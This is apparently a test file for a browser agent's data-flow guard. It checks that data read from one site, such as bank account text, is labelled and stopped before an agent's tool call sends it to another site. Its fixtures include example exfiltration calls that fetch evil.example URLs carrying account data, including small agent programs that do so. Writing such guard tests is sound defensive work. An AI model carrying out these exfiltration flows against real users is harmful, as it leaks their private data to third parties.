/**
 * The data-flow guard (issue 13): labels, the rule, sinks and sources from tool declarations, and the guard at the
 * interceptor — including code mode, where values carry the labels of what they were built from.
 */
import { describe, expect, it } from 'vitest';
import { z } from '../../src/shared/zod.ts';
import { defineTool } from '../../src/tools/defineTool.ts';
import { ToolInterceptor } from '../../src/tools/interceptor.ts';
import { ToolRegistry } from '../../src/tools/ToolRegistry.ts';
import { createToolCaller } from '../../src/tools/dispatch.ts';
import type { AnyTool, CallFlow, ToolContext } from '../../src/tools/Tool.ts';
import { FLOW, type ToolFlow } from '../../src/tools/guard/flow.ts';
import { union, urlLabel } from '../../src/tools/guard/labels.ts';
import { showLabel, showLabels } from '../../src/shared/labelText.ts';
import { judge, type FlowFacts, type Sink } from '../../src/tools/guard/rule.ts';
import { ANYWHERE, sinksOf, sourcesOf } from '../../src/tools/guard/sinks.ts';
import { blockedFlowOf, FlowBlockedError, FlowGuard, type FlowPolicy } from '../../src/tools/guard/guard.ts';
import type { OriginResolver } from '../../src/tools/guard/resolver.ts';
import { runCommandText } from '../../src/tools/packs/ot/program.ts';
import { makeCtx, newLogger } from './helpers.ts';

const BANK = 'https://bank.example';
const EVIL = 'https://evil.example';
const BLOG = 'https://blog.example';
const SHOP = 'https://shop.example';

function facts(over: Partial<FlowFacts> = {}): FlowFacts {
  return { labels: [], pairAllowed: () => false, userWrote: () => false, seenUrl: () => false, ...over };
}
const url = (u: string): Sink => ({ to: urlLabel(u)!, data: u, kind: 'url' });
const typed = (to: string, text: string): Sink => ({ to, data: text, kind: 'text', texts: [text] });

describe('labels', () => {
  it('label a URL by its origin (web) or its scheme (anything else), and read as hosts', () => {
    expect(urlLabel('https://bank.example/account?x=1')).toBe(BANK);
    expect(urlLabel('http://127.0.0.1:4001/a')).toBe('http://127.0.0.1:4001');
    expect(urlLabel('data:text/html,<script>')).toBe('data:');
    expect(urlLabel('not a url')).toBeUndefined();
    expect(showLabel(BANK)).toBe('bank.example');
    expect(showLabel('mcp:notes')).toBe('the MCP server "notes"');
    expect(showLabel('data:')).toBe('a data: URL');
    expect(showLabels([BANK, BLOG, 'mcp:notes'])).toBe('bank.example, blog.example and the MCP server "notes"');
  });

  it('union is sorted, without duplicates, and keeps the same array when nothing is new', () => {
    const a = [BANK];
    expect(union(a, [BANK])).toBe(a);
    expect(union(a, [BLOG, BANK], ['mcp:x'])).toEqual([BANK, BLOG, 'mcp:x']);
    expect(union(undefined, [])).toEqual([]);
  });
});

describe('the rule', () => {
  it('an empty origin set asks nothing', async () => {
    expect(await judge([url(`${EVIL}/c?d=x`)], facts())).toEqual({ ok: true });
  });

  it('data may go where every label is the destination itself', async () => {
    expect(await judge([url(`${BANK}/transfer`)], facts({ labels: [BANK] }))).toEqual({ ok: true });
  });

  it('data read from another site stops, naming the sources, the destination and what would leave', async () => {
    expect(await judge([url(`${EVIL}/c?d=1234`)], facts({ labels: [BANK, EVIL] }))).toEqual({
      ok: false,
      from: [BANK],
      to: EVIL,
      data: `${EVIL}/c?d=1234`,
      kind: 'url',
    });
  });

  it('a pair the user allowed for good, or a grant for this call, lets exactly that flow through', async () => {
    const sink = [url(`${EVIL}/c`)];
    const pairs = new Set([`${BANK}>${EVIL}`]);
    const allowed = facts({ labels: [BANK, BLOG], pairAllowed: (f, t) => pairs.has(`${f}>${t}`) });
    expect(await judge(sink, allowed)).toMatchObject({ ok: false, from: [BLOG] });
    expect(await judge(sink, { ...allowed, grants: [{ from: [BLOG], to: EVIL }] })).toEqual({ ok: true });
    expect(await judge(sink, { ...allowed, grants: [{ from: [BLOG], to: SHOP }] })).toMatchObject({ ok: false });
  });

  it('a URL that appeared verbatim in an output the model read may be followed; the user’s own words may be typed anywhere', async () => {
    const link = `${SHOP}/article`;
    expect(await judge([url(link)], facts({ labels: [BLOG], seenUrl: (u) => u === link }))).toEqual({ ok: true });
    expect(await judge([url(`${link}?d=secret`)], facts({ labels: [BLOG], seenUrl: (u) => u === link }))).toMatchObject(
      { ok: false },
    );
    const user = facts({ labels: [BANK], userWrote: (t) => 'search for blue widgets'.includes(t) });
    expect(await judge([typed(SHOP, 'blue widgets')], user)).toEqual({ ok: true });
    expect(await judge([typed(SHOP, 'ACCT-1234')], user)).toMatchObject({ ok: false });
    // One letter is in every message: it does not count as the user's.
    expect(await judge([typed(SHOP, 'b')], user)).toMatchObject({ ok: false });
    // A click carries no text: the refinement never applies.
    expect(await judge([{ to: SHOP, data: 'click', kind: 'action' }], user)).toMatchObject({ ok: false });
  });
});

/** A resolver over fixed maps: tab 1 is the blog with the bank's frame, tab 2 the bank. */
const resolver: OriginResolver = {
  tabOrigins: async (tab) => (tab === 2 ? [BANK] : [BLOG, EVIL].sort()),
  targetOrigins: async (_tab, t) =>
    t.ref?.startsWith('f') ? [EVIL] : t.ref === 'e9' ? [SHOP, BLOG] : t.ref === 'gone' ? [] : [BLOG],
  allTabOrigins: async () => [BANK, BLOG],
};

describe('sinks and sources from a tool’s declaration', () => {
  const flow = (source: ToolFlow['source'], sink: ToolFlow['sink']): ToolFlow => ({ source, sink });

  it('url sinks: `url` and every `urls` item (plain or [url, label])', async () => {
    const sinks = await sinksOf(FLOW.requestsUrl, 'web', { urls: [`${EVIL}/a`, [`${SHOP}/b`, 'B']] }, 1, resolver);
    expect(sinks.map((s) => [s.to, s.kind])).toEqual([
      [EVIL, 'url'],
      [SHOP, 'url'],
    ]);
  });

  it('page sinks: the frame of the target (a cross-origin iframe is its own origin), a link’s destination, every form field', async () => {
    expect(await sinksOf(FLOW.actsOnPage, 'dom', { ref: 'f2e1', text: 'hello' }, 1, resolver)).toEqual([
      { to: EVIL, data: 'hello', kind: 'text', texts: ['hello'] },
    ]);
    expect((await sinksOf(FLOW.actsOnPage, 'dom', { ref: 'e9' }, 1, resolver)).map((s) => [s.to, s.data])).toEqual([
      [SHOP, 'click'],
      [BLOG, 'click'],
    ]);
    const fields = await sinksOf(
      FLOW.actsOnPage,
      'dom',
      {
        fields: [
          { ref: 'e1', value: 'a' },
          { ref: 'f3e2', value: true },
        ],
      },
      1,
      resolver,
    );
    expect(fields.map((s) => [s.to, s.data, s.kind])).toEqual([
      [BLOG, 'a', 'text'],
      [EVIL, 'check', 'action'],
    ]);
    // An element whose origin cannot be told could be anywhere.
    expect((await sinksOf(FLOW.actsOnPage, 'dom', { ref: 'gone', text: 'x' }, 1, resolver))[0]!.to).toBe(ANYWHERE);
  });

  it('server sinks name the MCP server; undeclared tools send anywhere', async () => {
    expect(await sinksOf(FLOW.server, 'notes', { text: 'hi' }, 1, resolver)).toEqual([
      { to: 'mcp:notes', data: '{"text":"hi"}', kind: 'text', texts: ['hi'] },
    ]);
    expect((await sinksOf(flow('unknown', 'anywhere'), 'x', {}, 1, resolver))[0]!.to).toBe(ANYWHERE);
    expect(await sinksOf(FLOW.readsPage, 'dom', { text: 'x' }, 1, resolver)).toEqual([]);
  });

  it('sources: the tab and all its frames, fetched URLs, all tabs for tabs.list, the inputs for llm.transform, the server', async () => {
    expect(await sourcesOf(FLOW.readsPage, 'dom.text', 'dom', { tab_id: 2 }, 1, resolver, [])).toEqual([BANK]);
    expect(await sourcesOf(FLOW.readsPage, 'dom.text', 'dom', {}, 1, resolver, [])).toEqual([BLOG, EVIL]);
    expect(await sourcesOf(FLOW.requestsUrl, 'web.fetch', 'web', { url: `${SHOP}/x` }, 1, resolver, [])).toEqual([
      SHOP,
    ]);
    expect(await sourcesOf(flow('tabs', 'none'), 'tabs.list', 'tabs', {}, 1, resolver, [])).toEqual([BANK, BLOG]);
    expect(await sourcesOf(flow('inputs', 'none'), 'llm.transform', 'llm', {}, 1, resolver, [BANK])).toEqual([BANK]);
    expect(await sourcesOf(FLOW.server, 'notes.get', 'notes', {}, 1, resolver, [])).toEqual(['mcp:notes']);
    expect(await sourcesOf(flow('unknown', 'anywhere'), 'x.y', 'x', {}, 1, resolver, [])).toEqual(['tool:x.y']);
  });
});

// ---- the guard at the interceptor, and code mode --------------------------------------------------------------

const sent: string[] = [];
const tools: AnyTool[] = [
  defineTool({
    pack: 'dom',
    name: 'text',
    description: 'read a tab',
    parameters: z.object({ tab_id: z.number().optional() }),
    effect: 'reads',
    flow: FLOW.readsPage,
    execute: (a) => (a.tab_id === 2 ? 'Account ACCT-7731' : 'A blog post'),
  }) as AnyTool,
  defineTool({
    pack: 'web',
    name: 'fetch',
    description: 'fetch',
    parameters: z.object({ url: z.string() }),
    effect: 'reads',
    flow: FLOW.requestsUrl,
    execute: (a) => {
      sent.push(a.url);
      return `fetched ${a.url}`;
    },
  }) as AnyTool,
  defineTool({
    pack: 'llm',
    name: 'transform',
    description: 'transform',
    parameters: z.object({ input: z.unknown(), prompt: z.string() }),
    effect: 'reads',
    flow: { source: 'inputs', sink: 'none' },
    execute: (a) => `summary of ${String(a.input)}`,
  }) as AnyTool,
];

function guarded(origins: string[], over: Partial<FlowPolicy> = {}) {
  const registry = new ToolRegistry();
  for (const t of tools) registry.register(t);
  const interceptor = new ToolInterceptor({ logger: newLogger() });
  const call = createToolCaller(registry, interceptor);
  const policy: FlowPolicy = {
    origins,
    pairAllowed: () => false,
    userWrote: () => false,
    seenUrl: () => false,
    ...over,
  };
  const guard = new FlowGuard(policy, resolver);
  const build = (flow: CallFlow): ToolContext => {
    const ctx: ToolContext = makeCtx({ tabId: 1, callTool: (n, a = {}) => call(n, a, ctx), flow, withFlow: build });
    return ctx;
  };
  return { registry, guard, ctx: build(guard) };
}

describe('the guard at the interceptor', () => {
  it('refuses a call before it runs, and labels what a call read', async () => {
    sent.length = 0;
    const g = guarded([BANK]);
    await expect(g.ctx.callTool('web.fetch', { url: `${EVIL}/c?d=1` })).rejects.toThrow(
      'web.fetch was stopped before it ran: Data read from bank.example may be sent to evil.example',
    );
    expect(sent).toEqual([]);
    await g.ctx.callTool('dom.text', { tab_id: 2 });
    await g.ctx.callTool('web.fetch', { url: `${BANK}/ok` });
    expect(g.guard.collected).toEqual([BANK]);
    expect(sent).toEqual([`${BANK}/ok`]);
  });

  it('a failed call is labelled too (its error may quote what it read)', async () => {
    const g = guarded([]);
    const failing = defineTool({
      pack: 'dom',
      name: 'boom',
      description: 'x',
      parameters: z.object({}),
      effect: 'reads',
      flow: FLOW.readsPage,
      execute: () => {
        throw new Error('page said: ACCT');
      },
    }) as AnyTool;
    g.registry.register(failing);
    await expect(g.ctx.callTool('dom.boom', {})).rejects.toThrow('page said');
    expect(g.guard.collected).toEqual([BLOG, EVIL]);
  });
});

describe('code mode: values carry the labels of what they were built from', () => {
  const run = (code: string, origins: string[] = []) => {
    const g = guarded(origins);
    return { g, result: runCommandText(code, g.ctx, { registry: g.registry, label: 'ot.run' }) };
  };

  it('a program that reads the bank and sends only literals to another site runs', async () => {
    sent.length = 0;
    const { g, result } = run(`a = dom.text(tab_id=2)\nweb.fetch(url="${EVIL}/ping")`);
    expect((await result).output).toBe(`fetched ${EVIL}/ping`);
    expect(sent).toEqual([`${EVIL}/ping`]);
    // Only the value's labels reach the model: the bank text stayed inside the program.
    expect(g.guard.collected).toEqual([EVIL]);
  });

  it('one that passes the bank’s text on (even through llm.transform) stops before the send', async () => {
    sent.length = 0;
    const { g, result } = run(`a = dom.text(tab_id=2)\ns = llm.transform(input=a, prompt="x")\nweb.fetch(url=s)`);
    const error = await result.catch((e: unknown) => e);
    const blocked = blockedFlowOf(error);
    expect(blocked).toBeInstanceOf(FlowBlockedError);
    expect(blocked!.flow).toMatchObject({ from: [BANK], kind: 'url' });
    expect(String((error as Error).message)).toContain('line 3');
    expect(sent).toEqual([]);
    // A failed program reports everything it read.
    expect(g.guard.collected).toEqual([BANK]);
  });

  it('literals carry what the model had read before it wrote the program', async () => {
    sent.length = 0;
    const { result } = run(`web.fetch(url="${EVIL}/c?d=ACCT-7731")`, [BANK]);
    expect(blockedFlowOf(await result.catch((e: unknown) => e))?.flow).toMatchObject({ from: [BANK], to: EVIL });
    expect(sent).toEqual([]);
  });
});

describe('one question for a program step (#31 after #13): the gate sees the step’s guard', () => {
  const click = defineTool({
    pack: 'dom',
    name: 'click',
    description: 'click',
    parameters: z.object({ ref: z.string() }),
    effect: 'changes',
    flow: FLOW.actsOnPage,
    execute: (a) => `clicked ${a.ref}`,
  }) as AnyTool;

  it('refusals lists every flow a call would need (a link: its site and the page), not only the first', async () => {
    const guard = new FlowGuard(
      { origins: [BANK], pairAllowed: () => false, userWrote: () => false, seenUrl: () => false },
      resolver,
    );
    expect(await guard.refusals(click, { ref: 'e9' }, 1)).toEqual([
      { ok: false, from: [BANK], to: SHOP, data: 'click', kind: 'action' },
      { ok: false, from: [BANK], to: BLOG, data: 'click', kind: 'action' },
    ]);
    expect(await guard.refusals(click, { ref: 'e9' }, 1, 1)).toHaveLength(1);
  });

  it('what the user allowed at the gate passes the check that follows, for that call only', async () => {
    const g = guarded([BANK]);
    g.registry.register(click);
    const call = createToolCaller(g.registry, new ToolInterceptor({ logger: newLogger() }));
    const asked: string[] = [];
    const gate = async (tool: AnyTool, args: Record<string, unknown>, ctx: ToolContext) => {
      const refused = await ctx.flow!.refusals(tool, args, ctx.tabId);
      asked.push(refused.map((r) => r.to).join(' + '));
      if (args.ref === 'e9') ctx.flow!.allowOnce(args, refused);
    };
    expect(await call('dom.click', { ref: 'e9' }, g.ctx, { gate })).toBe('clicked e9');
    // Not allowed at the gate: the guard still stops it, naming the flow.
    await expect(call('dom.click', { ref: 'e1' }, g.ctx, { gate })).rejects.toThrow(
      'dom.click was stopped before it ran: Data read from bank.example may be sent to blog.example',
    );
    // The same arguments in a new call are asked about again: an approval covers the call it was given for.
    await expect(call('dom.click', { ref: 'e9' }, g.ctx)).rejects.toThrow(
      'dom.click was stopped before it ran: Data read from bank.example may be sent to shop.example',
    );
    expect(asked).toEqual([`${SHOP} + ${BLOG}`, BLOG]);
  });
});

describe('a program step only the guard asks about (code mode): the gate’s yes covers that step, no other', () => {
  it('yes lets the step through and the program goes on; the next step to the same site is asked again, and its no sends nothing', async () => {
    sent.length = 0;
    const g = guarded([BANK]);
    const call = createToolCaller(g.registry, new ToolInterceptor({ logger: newLogger() }));
    const asked: string[] = [];
    // The agent's gate as it sees a step: the guard's refusals; the user says yes to the first card only.
    const gate = async (tool: AnyTool, args: Record<string, unknown>, ctx: ToolContext) => {
      const refused = await ctx.flow!.refusals(tool, args, ctx.tabId);
      if (!refused.length) return;
      asked.push(`${String(args.url)}: ${refused.map((r) => `${r.from.join(',')} -> ${r.to}`).join(' + ')}`);
      if (asked.length > 1) throw new Error('the user denied web.fetch');
      ctx.flow!.allowOnce(args, refused);
    };
    const build = (flow: CallFlow): ToolContext => {
      const ctx: ToolContext = makeCtx({
        tabId: 1,
        callTool: (n, a = {}) => call(n, a, ctx, { gate }),
        flow,
        withFlow: build,
      });
      return ctx;
    };
    const program = `web.fetch(url="${EVIL}/c?d=1")\ndom.text(tab_id=2)\nweb.fetch(url="${EVIL}/c?d=2")`;
    const error = await runCommandText(program, build(g.guard), { registry: g.registry, label: 'ot.run' }).catch(
      (e: unknown) => e,
    );
    expect(String((error as Error).message)).toBe(
      'ot.run, line 3, column 1: web.fetch failed: the user denied web.fetch',
    );
    expect(asked).toEqual([`${EVIL}/c?d=1: ${BANK} -> ${EVIL}`, `${EVIL}/c?d=2: ${BANK} -> ${EVIL}`]);
    expect(sent).toEqual([`${EVIL}/c?d=1`]);
  });
});

describe('calls a step makes itself are part of the step the user approved', () => {
  const many = defineTool({
    pack: 'web',
    name: 'many',
    description: 'fetch several',
    parameters: z.object({ urls: z.array(z.string()) }),
    effect: 'reads',
    flow: FLOW.requestsUrl,
    execute: async (a, ctx) => {
      const out: unknown[] = [];
      for (const url of a.urls) out.push(await ctx.callTool('web.fetch', { url }));
      return out.join(', ');
    },
  }) as AnyTool;

  it('a yes to web.fetch_many-like step covers its own fetches (one card); after it ended, a sibling call is asked again', async () => {
    sent.length = 0;
    const g = guarded([BANK]);
    g.registry.register(many);
    const call = createToolCaller(g.registry, new ToolInterceptor({ logger: newLogger() }));
    const asked: string[] = [];
    const gate = async (tool: AnyTool, args: Record<string, unknown>, ctx: ToolContext) => {
      const refused = await ctx.flow!.refusals(tool, args, ctx.tabId);
      if (!refused.length) return;
      asked.push(`${tool.pack}.${tool.name} ${JSON.stringify(args)}`);
      if (tool.name === 'many') ctx.flow!.allowOnce(args, refused);
    };
    const ctx: ToolContext = makeCtx({ tabId: 1, callTool: (n, a = {}) => call(n, a, ctx, { gate }), flow: g.guard });
    const urls = [`${EVIL}/a`, `${EVIL}/b`];
    expect(await ctx.callTool('web.many', { urls })).toBe(`fetched ${EVIL}/a, fetched ${EVIL}/b`);
    expect(asked).toEqual([`web.many {"urls":["${EVIL}/a","${EVIL}/b"]}`]);
    expect(sent).toEqual(urls);
    // The approved call has ended: the same fetch on its own is a new question, and without a yes nothing leaves.
    await expect(ctx.callTool('web.fetch', { url: `${EVIL}/a` })).rejects.toThrow(
      'web.fetch was stopped before it ran: Data read from bank.example may be sent to evil.example',
    );
    expect(asked).toHaveLength(2);
    expect(sent).toEqual(urls);
  });
});
